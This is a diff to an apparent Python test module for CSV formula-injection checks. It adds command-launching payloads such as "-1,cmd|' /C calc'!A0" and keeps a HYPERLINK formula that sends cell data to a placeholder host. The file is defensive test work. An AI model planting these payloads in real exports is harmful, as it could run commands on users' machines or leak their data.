@@ -39,6 +39,10 @@ FORMULAS = [
     'Doe"; "=1+1"',
     "Doe, =1+1",
     "=cmd@x.example",
+    # What follows a number or a dash belongs to the same formula, until the text is split there.
+    "-1,cmd|' /C calc'!A0",
+    "Doe;-1,cmd|' /C calc'!A0",
+    "-\tHYPERLINK(A1)",
     '=HYPERLINK("http://x.example?"&A1;"Ann")',
     'Doe\\",=1+1',
 ]
@@ -57,7 +61,7 @@ def runs(text: str) -> bool:
 
 def no_cell_runs(text: str) -> bool:
     """However a program splits a table: at any separator, with quotation marks and without, by lines."""
-    numbers = re.compile(r'"?(-+|-[\d.]+(e-?\d+)?)"?([,;\t].*)?', re.DOTALL)
+    numbers = re.compile(r'"?(-*|-?[\d.]+(e-?\d+)?)"?([,;\t][\s\d,;".-]*|[,;\t]".*)?', re.DOTALL)
     for sign in ",;\t":
         rows = [row for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign)]
         cells = [cell for row in rows for cell in row]
